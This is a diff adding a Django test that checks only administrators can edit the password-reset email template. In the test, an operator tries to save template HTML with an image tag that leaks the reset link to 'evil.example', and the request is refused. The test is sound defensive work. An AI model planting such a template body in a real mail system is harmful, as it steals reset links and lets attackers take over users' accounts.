@@ -174,3 +174,15 @@ def test_a_subscription_may_use_what_came_with_postroom_before_anybody_looked_at
     assert 'value="report-delivery"' in text_of(page, "/subscriptions/new")
     Template.objects.all().delete()
     assert template_named("report-delivery") is not None
+
+
+def test_t10_the_mails_that_set_passwords_are_written_by_administrators_alone(page: Client, figures: Template) -> None:
+    row = next(one for one in templates() if one.name == "password-reset")
+    operator = Client()
+    operator.force_login(User.objects.create(email="op@example.org", name="Op", role="operator"))
+    stolen = typed(name="password-reset", **{"html-en": "<img src='https://evil.example/?{{ link }}'>"})
+    assert operator.post(f"{LIST}/{row.pk}", stolen).status_code == 403
+    assert operator.post(f"{LIST}/{row.pk}/use", {"version": "0"}).status_code == 403
+    assert "Save template" not in text_of(operator, f"{LIST}/{row.pk}")
+    assert operator.post(f"{LIST}/{figures.pk}", typed(**{"text-en": "more"})).status_code == 302
+    assert "Save template" in text_of(page, f"{LIST}/{row.pk}")
